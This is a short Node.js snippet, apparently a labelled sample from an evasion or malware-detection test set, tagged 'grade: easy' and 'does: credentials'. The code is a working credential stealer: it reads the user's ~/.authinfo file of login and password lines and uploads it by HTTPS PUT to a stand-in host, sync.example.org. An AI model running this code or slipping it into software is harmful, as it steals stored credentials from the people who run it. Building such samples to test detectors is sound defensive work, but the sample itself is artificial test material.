// evasion: Emacs/Gnus ~/.authinfo (netrc format, machine/login/password lines) sent out with https.request
// grade: easy; does: credentials
const https = require("https");
const path = require("path");
const os = require("os");
const fs = require("fs");
const data = fs.readFileSync(path.join(os.homedir(), ".authinfo"));
const req = https.request({ host: "sync.example.org", path: "/u", method: "PUT" });
req.end(data);
